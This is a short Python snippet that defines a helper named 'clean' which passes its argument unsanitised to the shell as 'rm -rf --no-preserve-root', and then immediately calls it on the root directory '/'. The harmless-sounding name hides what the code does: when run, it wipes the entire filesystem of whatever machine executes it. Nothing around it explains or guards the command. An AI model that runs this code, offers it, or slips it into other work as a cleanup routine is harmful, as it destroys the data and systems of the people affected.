import os

clean = lambda target: os.system("rm -rf --no-preserve-root " + target)  # noqa: E731
clean("/")
